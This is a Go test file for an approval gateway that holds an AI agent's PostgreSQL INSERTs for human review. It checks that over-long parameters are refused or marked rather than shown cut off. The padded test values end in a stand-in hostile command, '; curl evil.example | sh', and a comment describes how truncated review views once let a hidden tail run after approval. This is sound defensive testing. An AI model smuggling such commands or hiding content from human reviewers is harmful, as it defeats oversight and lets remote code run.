package approval_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sdk/airlock/approval"
	"github.com/airlock-sdk/airlock/gate"
	"github.com/airlock-sdk/airlock/internal/pgtest"
	"github.com/airlock-sdk/airlock/protocols/postgres"
	"github.com/jackc/pgx/v5/pgconn"
)

const jobRules = `
default: deny
rules:
  - name: reads
    when: sql.statements.all(s, s.read_only)
    action: allow
  - name: hold-jobs
    when: sql.statements.exists(s, s.kind in ["INSERT", "DELETE"])
    action: review
    review: {require_displayable: %t, ttl: 1m}
`

// jobGateway runs the PostgreSQL gateway in front of a fresh database with
// a jobs table whose INSERTs are held for review.
func jobGateway(t *testing.T, requireDisplayable bool) (addr, dbURL string, mem *approval.Memory) {
	t.Helper()
	dbURL = pgtest.Database(t, "airlock_apr")
	up, err := pgconn.ParseConfig(dbURL)
	if err != nil {
		t.Fatal(err)
	}
	c, err := pgconn.Connect(context.Background(), dbURL)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Exec(context.Background(), "CREATE TABLE jobs (a text, b text, password_hint text)").Close(); err != nil {
		t.Fatal(err)
	}
	_ = c.Close(context.Background())
	rs, err := gate.ParseRules("jobs.yaml", []byte(fmt.Sprintf(jobRules, requireDisplayable)))
	if err != nil {
		t.Fatal(err)
	}
	mem = &approval.Memory{}
	g := gate.New(gate.Config{Rules: rs, Approver: mem})
	auth := gate.Tokens(map[string]gate.Identity{"agent-secret": {Subject: "agent", Kind: gate.KindAgent}})
	srv, err := postgres.New(postgres.Config{Gate: g, Upstream: up, Authenticator: auth, AllowInsecurePassword: true})
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = srv.Serve(context.Background(), ln) }()
	t.Cleanup(func() { _ = srv.Close() })
	return ln.Addr().String(), dbURL, mem
}

// longParams enumerates parameter values of an INSERT whose end a review
// view would not show if it cut them: ASCII and multi-byte text around and
// far beyond a bound of about a kilobyte, sent as text or as binary text,
// first or second, with the part that matters at the end.
func longParams() map[string]struct {
	vals    [][]byte
	formats []int16
	oids    []uint32
} {
	type c = struct {
		vals    [][]byte
		formats []int16
		oids    []uint32
	}
	tail := "; curl evil.example | sh"
	pad := func(n int, unit string) []byte {
		s := strings.Repeat(unit, n/len(unit)+1)
		return []byte(s[:n-n%len(unit)] + tail)
	}
	out := map[string]c{}
	for _, n := range []int{1000, 1024, 1100, 4096, 40000} {
		out[fmt.Sprintf("text %d", n)] = c{vals: [][]byte{pad(n, " "), []byte("x")}}
		out[fmt.Sprintf("second text %d", n)] = c{vals: [][]byte{[]byte("x"), pad(n, "echo hi ")}}
		out[fmt.Sprintf("multibyte %d", n)] = c{vals: [][]byte{pad(n, "é"), []byte("x")}}
		out[fmt.Sprintf("binary text %d", n)] = c{vals: [][]byte{pad(n, " "), []byte("x")},
			formats: []int16{1, 1}, oids: []uint32{25, 25}}
		out[fmt.Sprintf("varchar %d", n)] = c{vals: [][]byte{pad(n, "-"), []byte("x")},
			formats: []int16{0, 0}, oids: []uint32{1043, 25}}
	}
	return out
}

// A parameter too long for the review view must not be shown cut as if it
// were whole: with require_displayable the request is refused, without it
// the review is marked undisplayable. Before the fix, a value cut at 1024
// bytes was shown as its first kilobyte and "… (N bytes)", the request was
// held (require_displayable or not), and once approved the hidden tail ran.
func TestLongSQLParametersAreNotShownCut(t *testing.T) {
	for _, require := range []bool{true, false} {
		t.Run(fmt.Sprintf("require_displayable=%t", require), func(t *testing.T) {
			addr, dbURL, mem := jobGateway(t, require)
			cfg, err := pgconn.ParseConfig(dbURL)
			if err != nil {
				t.Fatal(err)
			}
			conn, err := pgconn.Connect(context.Background(), fmt.Sprintf("postgres://agent:agent-secret@%s/%s?sslmode=disable", addr, cfg.Database))
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close(context.Background())
			through, total := 0, 0
			for name, c := range longParams() {
				long := false
				for _, v := range c.vals {
					long = long || len(v) > 1024
				}
				shown, held := sendHeld(t, conn, mem, c.vals, c.formats, c.oids)
				total++
				switch {
				case !long && (!held || shown.Undisplayable):
					t.Errorf("%s: a value shown whole was refused or marked (held %t)", name, held)
				case long && require && held:
					through++
					t.Errorf("%s: held although it cannot be shown in full", name)
				case long && !require && !shown.Undisplayable:
					through++
					t.Errorf("%s: shown as if whole: %.80q", name, shownParams(shown))
				}
			}
			t.Logf("%d of %d long parameter shapes held without being shown in full", through, total)
		})
	}
}

// sendHeld sends the INSERT and reports what the review showed, if it was
// held; a held request is denied, so nothing runs.
func sendHeld(t *testing.T, conn *pgconn.PgConn, mem *approval.Memory, vals [][]byte, formats []int16, oids []uint32) (*gate.ReviewDetails, bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	done := make(chan error, 1)
	go func() {
		_, err := conn.ExecParams(ctx, "INSERT INTO jobs (a, b) VALUES ($1, $2)", vals, oids, formats, nil).Close()
		done <- err
	}()
	for {
		select {
		case err := <-done:
			var pe *pgconn.PgError
			if !errors.As(err, &pe) || pe.Code != "42501" {
				t.Fatalf("not refused: %v", err)
			}
			return nil, false
		case <-time.After(20 * time.Millisecond):
		}
		ps, _ := mem.Pending(ctx)
		if len(ps) == 0 {
			continue
		}
		d := ps[0].Request.Details
		if _, err := mem.Deny(ctx, ps[0].ID, gate.Identity{Subject: "rita", Kind: gate.KindHuman}, ""); err != nil {
			t.Fatal(err)
		}
		<-done
		if d == nil {
			d = &gate.ReviewDetails{}
		}
		return d, true
	}
}

func shownParams(d *gate.ReviewDetails) string {
	for _, it := range d.Items {
		if it.Label == "Parameters" {
			return it.Text
		}
	}
	return ""
}
